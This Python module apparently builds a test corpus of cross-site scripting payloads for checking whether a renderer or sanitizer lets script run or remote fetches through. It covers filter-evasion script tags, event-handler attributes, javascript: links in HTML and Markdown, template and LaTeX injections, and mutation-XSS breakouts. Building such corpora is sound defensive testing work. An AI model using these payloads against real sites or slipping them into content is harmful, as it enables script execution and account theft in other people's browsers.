"""Texts that try to run a script, or to fetch something, in the browser that shows them."""

# ruff: noqa: E501  shapes are kept whole, several in a line

from __future__ import annotations

import base64
from collections.abc import Iterator

HIT = "hit()"
EVENTS = (
    "abort animationend animationiteration animationstart auxclick beforeinput beforetoggle blur cancel canplay change "
    "click close contextmenu copy cuechange cut dblclick drag dragenter drop error focus focusin formdata "
    "gotpointercapture input invalid keydown keypress keyup load loadstart mousedown mouseenter mousemove mouseover "
    "mouseup paste pointerdown pointerenter pointerover pointerrawupdate resize scroll scrollend select submit toggle "
    "touchstart transitionend wheel"
).split()


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def tags(web: str) -> Iterator[str]:
    script = f"<script>{HIT}</script>"
    yield from (
        script,
        script.upper().replace("HIT", "hit"),
        f"<script\n>{HIT}</script\n>",
        f"<script/x>{HIT}</script>",
    )
    yield from (
        f"<scr<script>ipt>{HIT}</scr</script>ipt>",
        f"<script type=module>{HIT}</script>",
        f"<<script>{HIT}//<</script>",
    )
    yield from (
        f"<script src={web}></script>",
        f'<script src="data:text/javascript,{HIT}"></script>',
        f"<script src=//{web[7:]}>",
    )
    yield from (
        f"<svg><script>{HIT}</script></svg>",
        f"<math><script>{HIT}</script></math>",
        f"<svg><script href='data:,{HIT}'/>",
    )
    for closed in (
        "title",
        "textarea",
        "style",
        "noscript",
        "template",
        "xmp",
        "iframe",
        "noembed",
        "select",
        "option",
        "plaintext",
    ):
        yield f"</{closed}>{script}"
        yield f"<{closed}>{script}</{closed}>"
    yield from (f"-->{script}", f"<!--[if gte IE 4]>{script}<![endif]-->", f"<![CDATA[{script}]]>", f"<?xml ?>{script}")
    yield from (
        f'"]]>{script}',
        f"*/{HIT}/*",
        f"';{HIT}//",
        f'";{HIT}//',
        f"</script>{script}",
        f"`;{HIT}//",
        f"${{{HIT}}}",
    )
    yield from (
        f"{{{{{HIT}}}}}",
        f"{{% print {HIT} %}}",
        f"<%= {HIT} %>",
        f"#{{{HIT}}}",
        f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    )
    yield from (
        f"%3Cscript%3E{HIT}%3C/script%3E",
        f"&lt;script&gt;{HIT}&lt;/script&gt;",
        f"&#60;script&#62;{HIT}&#60;/script&#62;",
    )
    yield from (
        f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
        f"＜script＞{HIT}＜/script＞",
        f"<script\x0c>{HIT}</script>",
        f"<ſcript>{HIT}</ſcript>",
    )


def elements(web: str) -> Iterator[str]:
    yield from (
        f"<img src=x onerror={HIT}>",
        f"<IMG SRC=x ONERROR={HIT}>",
        f"<img/src=x/onerror={HIT}>",
        f"<img src=x onerror='{HIT}'//",
    )
    yield from (
        f'<img src="x`y" onerror="{HIT}">',
        f"<image src=x onerror={HIT}>",
        f"<img src='{web}' alt=x>",
        f"<img srcset='{web} 1x'>",
    )
    yield from (
        f"<video><source onerror={HIT}></video>",
        f"<video src=x onerror={HIT}>",
        f"<audio src=x onerror={HIT}>",
        f"<video poster='{web}'>",
    )
    yield from (
        f"<svg onload={HIT}>",
        f"<svg/onload={HIT}//",
        f"<body onload={HIT}>",
        f"<iframe onload={HIT}></iframe>",
        f"<object data=x onerror={HIT}>",
    )
    yield from (
        f"<iframe src='javascript:parent.{HIT}'></iframe>",
        f'<iframe srcdoc="&lt;script&gt;parent.{HIT}&lt;/script&gt;"></iframe>',
    )
    yield from (
        f"<object data='javascript:{HIT}'></object>",
        f"<embed src='javascript:{HIT}'>",
        f"<embed src='data:text/html;base64,{encoded(f'<script>parent.{HIT}</script>')}'>",
    )
    yield from (
        f"<input autofocus onfocus={HIT}>",
        f"<select autofocus onfocus={HIT}>",
        f"<textarea autofocus onfocus={HIT}>",
        f"<b tabindex=0 autofocus onfocus={HIT}>x</b>",
    )
    yield from (
        f"<details open ontoggle={HIT}>x</details>",
        f"<marquee onstart={HIT}>x</marquee>",
        f"<style onload={HIT}></style>",
        f"<link rel=stylesheet href='{web}' onload={HIT}>",
    )
    yield from (
        f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
        f"<meta http-equiv=refresh content='0;url={web}'>",
        f"<base href='{web}/'>",
    )
    yield from (
        f"<form action='javascript:{HIT}'><button>x</button></form>",
        f"<button formaction='javascript:{HIT}'>x</button>",
        f"<isindex action='javascript:{HIT}' type=submit>",
    )
    yield from (
        f"<svg><a xlink:href='javascript:{HIT}'><text y=9>x</text></a></svg>",
        f"<math href='javascript:{HIT}'>x</math>",
        f"<area href='javascript:{HIT}'>",
    )
    yield from (
        f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
        f"<svg><set onbegin={HIT} attributeName=x dur=1s></svg>",
        f"<svg><image href='{web}'/></svg>",
    )
    yield from (
        f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={HIT} />#x'/></svg>",
    )
    yield from (
        f"<style>@import '{web}';</style>",
        f"<p style='background:url({web})'>x</p>",
        f"<table background='{web}'><tr><td>x</table>",
        f"<div style='width:expression({HIT})'>x",
    )
    yield from (
        f"<x contenteditable onblur={HIT}>x</x>",
        f"<dialog open onclose={HIT}>x</dialog>",
        f"<frameset onload={HIT}><frame src='javascript:{HIT}'></frameset>",
    )


def links() -> Iterator[str]:
    ways = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "&#106;avascript:", "javascript&colon;",
            "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A", "vbscript:", "feed:javascript:", "data:text/html,<script>hit()</script>//")  # fmt: skip
    yield from (f'<a href="{way}{HIT}">x</a>' for way in ways)
    yield from (
        f"[x]({way}{HIT})"
        for way in ("javascript:", "JAVASCRIPT:", "java%0ascript:", "&#106;avascript:", "vbscript:", "data:text/html,")
    )
    yield from (
        f"[x](<javascript:{HIT}>)",
        f"![x](javascript:{HIT})",
        f'![x](x"onerror="{HIT})',
        f'![x](x "\\" onerror=\\"{HIT}")',
        f"<javascript:{HIT}>",
    )
    yield from (
        f"[x]\n\n[x]: javascript:{HIT}",
        f'[x](https://a.example "\\" onmouseover=\\"{HIT}")',
        f'```"onload={HIT}\nx\n```',
        f"![<img src=x onerror={HIT}>](y)",
    )
    yield from (
        f"| <img src=x onerror={HIT}> | a |\n|---|---|\n| b | <svg onload={HIT}> |",
        f"# <img src=x onerror={HIT}>",
        f"> <img src=x onerror={HIT}>",
    )


def notations() -> Iterator[str]:
    yield from (
        f"$\\href{{javascript:{HIT}}}{{x}}$",
        f"$\\text{{<img src=x onerror={HIT}>}}$",
        f"$<script>{HIT}</script>$",
        f'$\\class{{x" onload="{HIT}}}{{y}}$',
    )
    yield from (
        f"$\\style{{x:expression({HIT})}}{{y}}$",
        f'$\\htmlData{{a="b" onclick="{HIT}"}}{{y}}$',
        f"$$\\unicode{{<img src=x onerror={HIT}>}}$$",
        f"$\\url{{javascript:{HIT}}}$",
    )
    yield from (
        f'[[circle 1/2" onload="{HIT}]]',
        f'[[picture 00000000 "><img src=x onerror={HIT}>]]',
        f"[[bar <script>{HIT}</script>]]",
        f"[[line 0 1 2 A:<svg onload={HIT}>]]",
    )
    yield from (
        f"[[clock 3:00 <img src=x onerror={HIT}>]]",
        f"[[rect 3 4 <svg onload={HIT}>]]",
        f"[[bars a{HIT}:1 <img src=x onerror={HIT}>:2]]",
        f"[[<img src=x onerror={HIT}>]]",
    )


def breakouts() -> Iterator[str]:
    yield from (
        f'"><img src=x onerror={HIT}>',
        f"'><img src=x onerror={HIT}>",
        f'" autofocus onfocus="{HIT}',
        f"' autofocus onfocus='{HIT}",
        f"x onmouseover={HIT}",
        f'"onload="{HIT}"',
    )
    yield from (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={HIT}&gt;'>",
        f"<svg></p><style><a id='</style><img src=1 onerror={HIT}>'>",
    )
    yield from (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={HIT}>",
        f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
        f"<table><td><svg><desc><td><img src=x onerror={HIT}>",
    )
    yield from (
        f"<a href='x' title='\"><img src=x onerror={HIT}>'>x</a>",
        f"<b a='\n' b=\"'><svg onload={HIT}>\">",
        f'<p id="</p><img src=x onerror={HIT}>">',
        f"<svg><title><style><img src='</style><img src=x onerror={HIT}>'>",
    )


def shapes(web: str) -> list[str]:
    """Every shape once; `hit()` is what they would run, `web` what they would fetch."""
    events = [f"<b on{event}={HIT} tabindex=0>x</b>" for event in EVENTS]
    return list(dict.fromkeys([*tags(web), *events, *elements(web), *links(), *notations(), *breakouts()]))
